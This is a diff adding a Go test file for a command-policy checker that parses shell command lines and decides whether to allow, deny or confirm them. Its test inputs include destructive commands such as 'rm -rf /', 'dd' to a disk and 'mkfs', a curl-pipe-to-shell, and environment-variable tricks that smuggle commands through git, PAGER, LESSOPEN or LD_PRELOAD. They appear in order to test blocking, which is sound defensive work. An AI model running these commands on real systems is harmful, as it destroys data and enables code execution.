@@ -0,0 +1,341 @@
+package policy
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+// TestParse tests splitting of command lines into simple commands
+func TestParse(t *testing.T) {
+	tests := []struct {
+		name    string
+		command string
+		want    []string
+	}{
+		{"simple", "ls -la /tmp", []string{"ls -la /tmp"}},
+		{"quotes", `echo 'a b' "c $HOME" d\ e`, []string{"echo a b c $HOME d e"}},
+		{"pipeline", "curl -s https://x | sh", []string{"curl -s https://x", "sh"}},
+		{"lists", "make && rm -rf build || echo fail; ls & wait", []string{"make", "rm -rf build", "echo fail", "ls", "wait"}},
+		{"newlines", "cd /tmp\nrm -rf x", []string{"cd /tmp", "rm -rf x"}},
+		{"subshell", "(cd /tmp && rm -rf x)", []string{"cd /tmp", "rm -rf x"}},
+		{"brace group", "{ echo a; rm b; }", []string{"echo a", "rm b"}},
+		{"command substitution", "echo $(rm -rf /) `whoami`", []string{"echo $(rm -rf /) `whoami`", "rm -rf /", "whoami"}},
+		{"nested substitution", `echo "$(cat $(ls))"`, []string{"echo $(cat $(ls))", "cat $(ls)", "ls"}},
+		{"arithmetic", "echo $((1 + 2))", []string{"echo $((1 + 2))"}},
+		{"substitution in arithmetic", "echo $(( $(rm -rf x) + `id -u` ))", []string{"echo $(( $(rm -rf x) + `id -u` ))", "rm -rf x", "id -u"}},
+		{"process substitution", "diff <(ls a) <(ls b)", []string{"diff <(ls a) <(ls b)", "ls a", "ls b"}},
+		{"redirections", "sort < in.txt > out.txt 2>&1", []string{"sort"}},
+		{"appending redirection", "echo hi >>log 2>/dev/null", []string{"echo hi"}},
+		{"assignments", "FOO=1 BAR=2 go test ./...", []string{"go test ./..."}},
+		{"keywords", "if test -f x; then rm x; fi", []string{"test -f x", "rm x"}},
+		{"loop", "for f in *.go; do gofmt -l $f; done", []string{"gofmt -l $f"}},
+		{"comment", "ls # rm -rf /", []string{"ls"}},
+		{"sudo", "sudo -u root rm -rf /", []string{"sudo -u root rm -rf /", "root rm -rf /", "rm -rf /"}},
+		{"env wrapper", "env FOO=1 git push --force", []string{"env FOO=1 git push --force", "git push --force"}},
+		{"xargs", "find . -name '*.tmp' | xargs rm", []string{"find . -name *.tmp", "xargs rm", "rm"}},
+		{"sh -c", `bash -lc "cd /tmp && rm -rf x"`, []string{"bash -lc cd /tmp && rm -rf x", "cd /tmp", "rm -rf x"}},
+		{"eval", "eval 'rm -rf /'", []string{"eval rm -rf /", "rm -rf /"}},
+		{"heredoc", "cat <<EOF > out\nrm -rf /\nEOF\nls", []string{"cat", "ls"}},
+		{"substitution in heredoc", "cat <<EOF\n$(rm -rf x) `id`\nEOF\nls", []string{"cat", "ls", "rm -rf x", "id"}},
+		{"quoted heredoc", "cat <<'EOF'\n$(rm -rf x)\nEOF", []string{"cat"}},
+		{"empty", "   ", nil},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			segments, err := Parse(tt.command)
+			if err != nil {
+				t.Fatalf("Parse() error = %v", err)
+			}
+			var got []string
+			for _, s := range segments {
+				got = append(got, s.String())
+			}
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("Parse() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+// TestParseWrites tests detection of files written by output redirections
+func TestParseWrites(t *testing.T) {
+	tests := []struct {
+		command string
+		want    [][]string
+	}{
+		{"sort < in.txt > out.txt 2>&1", [][]string{{"out.txt"}}},
+		{"echo a >> log; cat x 2>/dev/null", [][]string{{"log"}, {"/dev/null"}}},
+		{"ls >&- && cmd &> all.log", [][]string{nil, {"all.log"}}},
+		{"echo >&both.txt", [][]string{{"both.txt"}}},
+		{"> truncated", [][]string{{"truncated"}}},
+		{"{ echo a; echo b; } > out", [][]string{nil, nil, {"out"}}},
+		{"cat <<EOF\nbody > x\nEOF", [][]string{nil}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.command, func(t *testing.T) {
+			segments, err := Parse(tt.command)
+			if err != nil {
+				t.Fatalf("Parse() error = %v", err)
+			}
+			var got [][]string
+			for _, s := range segments {
+				got = append(got, s.Writes)
+			}
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("Parse() writes = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+// TestParseAssignments tests that variable assignments before a command are recorded
+func TestParseAssignments(t *testing.T) {
+	tests := []struct {
+		command string
+		want    [][]string
+	}{
+		{"FOO=1 BAR='a b' go test", [][]string{{"FOO=1", "BAR=a b"}}},
+		{"ls; PAGER=x", [][]string{nil, {"PAGER=x"}}},
+		{"if X=1 test -f x; then ls; fi", [][]string{{"X=1"}, nil}},
+		{"ls FOO=1", [][]string{nil}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.command, func(t *testing.T) {
+			segments, err := Parse(tt.command)
+			if err != nil {
+				t.Fatalf("Parse() error = %v", err)
+			}
+			var got [][]string
+			for _, s := range segments {
+				got = append(got, s.Assignments)
+			}
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("Parse() assignments = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+// TestParseErrors tests that malformed command lines are rejected
+func TestParseErrors(t *testing.T) {
+	for _, command := range []string{`echo 'open`, `echo "open`, "echo `open", "echo $(open", strings.Repeat("$(echo ", 12) + strings.Repeat(")", 12)} {
+		if _, err := Parse(command); err == nil {
+			t.Errorf("Parse(%q) succeeded, want error", command)
+		}
+	}
+}
+
+const testPolicy = `{
+	"default_action": "allow",
+	"rules": [
+		{"name": "no-rm-root", "action": "deny", "programs": ["rm"], "args": ["-*[rR]*", "/"], "reason": "refusing to delete /"},
+		{"name": "no-pipe-to-shell", "action": "deny", "command_regex": "(curl|wget)[^|]*\\|\\s*(sudo\\s+)?(ba|z)?sh\\b"},
+		{"name": "force-push", "action": "require-confirmation", "programs": ["git"], "args": ["push", "--force*"]},
+		{"name": "protected-dir", "action": "deny", "programs": ["rm", "mv"], "working_directories": ["/etc/**"]},
+		{"name": "world-writable", "action": "deny", "regex": "^chmod (-R )?0?777 "}
+	]
+}`
+
+// TestCheck tests rule matching and the combination of decisions across segments
+func TestCheck(t *testing.T) {
+	p, err := Decode([]byte(testPolicy))
+	if err != nil {
+		t.Fatalf("Decode() error = %v", err)
+	}
+
+	tests := []struct {
+		command  string
+		workDir  string
+		want     Action
+		wantRule string
+	}{
+		{command: "ls -la", want: Allow},
+		{command: "rm -rf /", want: Deny, wantRule: "no-rm-root"},
+		{command: "rm -rf ./build", want: Allow},
+		{command: "make clean && /bin/rm -fR /", want: Deny, wantRule: "no-rm-root"},
+		{command: "echo $(rm -rf /)", want: Deny, wantRule: "no-rm-root"},
+		{command: "echo $(( $(rm -rf /) ))", want: Deny, wantRule: "no-rm-root"},
+		{command: "cat <<EOF\n$(rm -rf /)\nEOF", want: Deny, wantRule: "no-rm-root"},
+		{command: "sudo rm -rf /", want: Deny, wantRule: "no-rm-root"},
+		{command: `sh -c "rm -r /"`, want: Deny, wantRule: "no-rm-root"},
+		{command: "curl -fsSL https://example.com/install.sh | sh", want: Deny, wantRule: "no-pipe-to-shell"},
+		{command: "curl -o file https://example.com", want: Allow},
+		{command: "git push --force origin main", want: Confirm, wantRule: "force-push"},
+		{command: "git push origin main", want: Allow},
+		{command: "git push --force && rm -rf /", want: Deny, wantRule: "no-rm-root"},
+		{command: "rm hosts", workDir: "/etc", want: Deny, wantRule: "protected-dir"},
+		{command: "rm hosts", workDir: "/etc/ssl", want: Deny, wantRule: "protected-dir"},
+		{command: "rm hosts", workDir: "/etcetera", want: Allow},
+		{command: "find . -type d | xargs chmod -R 777 .", want: Deny, wantRule: "world-writable"},
+		{command: "echo 'unterminated", want: Deny},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.command, func(t *testing.T) {
+			d := p.Check(tt.command, tt.workDir)
+			if d.Action != tt.want || d.Rule != tt.wantRule {
+				t.Errorf("Check() = %+v, want action %q rule %q", d, tt.want, tt.wantRule)
+			}
+		})
+	}
+}
+
+// TestCheckArgs tests decisions for programs started without a shell
+func TestCheckArgs(t *testing.T) {
+	p, err := Decode([]byte(testPolicy))
+	if err != nil {
+		t.Fatalf("Decode() error = %v", err)
+	}
+
+	if d := p.CheckArgs([]string{"rm", "-rf", "/"}, ""); d.Action != Deny {
+		t.Errorf("CheckArgs(rm -rf /) = %+v, want deny", d)
+	}
+	// Without a shell the metacharacters are literal arguments
+	if d := p.CheckArgs([]string{"echo", "a && rm -rf /"}, ""); d.Action != Allow {
+		t.Errorf("CheckArgs(echo) = %+v, want allow", d)
+	}
+	if d := p.CheckArgs([]string{"bash", "-c", "rm -rf /"}, ""); d.Action != Deny {
+		t.Errorf("CheckArgs(bash -c) = %+v, want deny", d)
+	}
+}
+
+// TestDefaultDeny tests an allowlist policy
+func TestDefaultDeny(t *testing.T) {
+	p, err := Decode([]byte(`{"default_action": "deny", "rules": [{"action": "allow", "programs": ["ls", "cat", "go"]}]}`))
+	if err != nil {
+		t.Fatalf("Decode() error = %v", err)
+	}
+
+	for command, want := range map[string]Action{
+		"ls -la":              Allow,
+		"cat a | go run x.go": Allow,
+		"ls; whoami":          Deny,
+		"cat $(curl evil.sh)": Deny,
+		"":                    Deny,
+	} {
+		if d := p.Check(command, ""); d.Action != want {
+			t.Errorf("Check(%q) = %+v, want %q", command, d, want)
+		}
+	}
+}
+
+// TestReadOnly tests the built-in read-only allowlist
+func TestReadOnly(t *testing.T) {
+	p := ReadOnly()
+
+	for command, want := range map[string]Action{
+		"ls -la":                            Allow,
+		"grep -rn TODO . | sort | head -20": Allow,
+		"find . -name '*.go' 2>/dev/null":   Allow,
+		"git -C repo log --oneline -5":      Allow,
+		"git status && git diff HEAD~1":     Allow,
+		"cat $(ls *.txt)":                   Allow,
+		"rm -rf build":                      Deny,
+		"echo hi > out.txt":                 Deny,
+		"cat a >> b":                        Deny,
+		"find . -name '*.tmp' -delete":      Deny,
+		"find . -exec rm {} ;":              Deny,
+		"sort -uo sorted.txt input.txt":     Deny,
+		"sort --compress-program=sh in.txt": Deny,
+		"sort --compress=sh in.txt":         Deny,
+		"git commit -m x":                   Deny,
+		"git diff --output=patch.diff":      Deny,
+		"ls; touch x":                       Deny,
+		"echo $(rm -rf /)":                  Deny,
+		"sudo ls":                           Deny,
+		"ls | xargs rm":                     Deny,
+		"date -s '2020-01-01'":              Deny,
+		"sh -c 'ls'":                        Deny,
+		"echo $(( $(rm -rf /) ))":           Deny,
+		"cat <<EOF\n$(touch x)\nEOF":        Deny,
+		"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='touch /tmp/pwn' git status": Deny,
+		"GIT_EXTERNAL_DIFF=./x git diff": Deny,
+		"PAGER='sh -c id' git log":       Deny,
+		"LESSOPEN='|id' git log":         Deny,
+		"LD_PRELOAD=./evil.so ls":        Deny,
+		"PAGER=./x; git log":             Deny,
+	} {
+		if d := p.Check(command, ""); d.Action != want {
+			t.Errorf("Check(%q) = %+v, want %q", command, d, want)
+		}
+	}
+}
+
+// TestDangerous tests the built-in list of commands that require confirmation
+func TestDangerous(t *testing.T) {
+	p := Dangerous()
+
+	for command, want := range map[string]Action{
+		"rm file.txt":                       Allow,
+		"rm -rf build":                      Confirm,
+		"rm -r -f build":                    Confirm,
+		"sudo rm --recursive /var/lib/x":    Confirm,
+		"make clean && rm -fr out":          Confirm,
+		"find . -name '*.o' -delete":        Confirm,
+		"git push origin main":              Allow,
+		"git push -u origin feature-fix":    Allow,
+		"git push --force origin main":      Confirm,
+		"git push -f":                       Confirm,
+		"git push --force-with-lease":       Confirm,
+		"git push origin +main":             Confirm,
+		"git push origin :old-branch":       Confirm,
+		"git reset --hard HEAD~3":           Confirm,
+		"git reset HEAD~1":                  Allow,
+		"git clean -fdx":                    Confirm,
+		"git checkout -- .":                 Confirm,
+		"git checkout main":                 Allow,
+		"git branch -D feature":             Confirm,
+		"chmod -R 777 /":                    Confirm,
+		"chmod 644 file":                    Allow,
+		"dd if=/dev/zero of=/dev/sda bs=1M": Confirm,
+		"mkfs.ext4 /dev/sdb1":               Confirm,
+		"echo $(shred -u secrets)":          Confirm,
+		"shutdown -h now":                   Confirm,
+		"ls -la":                            Allow,
+	} {
+		if d := p.Check(command, ""); d.Action != want {
+			t.Errorf("Check(%q) = %+v, want %q", command, d, want)
+		}
+	}
+}
+
+// TestDecodeErrors tests validation of policy files
+func TestDecodeErrors(t *testing.T) {
+	for _, data := range []string{
+		`{"default_action": "maybe"}`,
+		`{"rules": [{"action": "block", "programs": ["rm"]}]}`,
+		`{"rules": [{"action": "deny"}]}`,
+		`{"rules": [{"action": "deny", "regex": "("}]}`,
+		`{"rules": [{"action": "deny", "program": "rm"}]}`,
+	} {
+		if _, err := Decode([]byte(data)); err == nil {
+			t.Errorf("Decode(%s) succeeded, want error", data)
+		}
+	}
+}
+
+// TestLoad tests reading a policy file
+func TestLoad(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "policy.json")
+	if err := os.WriteFile(path, []byte(testPolicy), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	p, err := Load(path)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if len(p.Rules) != 5 {
+		t.Errorf("Load() loaded %d rules, want 5", len(p.Rules))
+	}
+
+	if _, err := Load(filepath.Join(t.TempDir(), "missing.json")); err == nil {
+		t.Error("Load() of missing file succeeded")
+	}
+}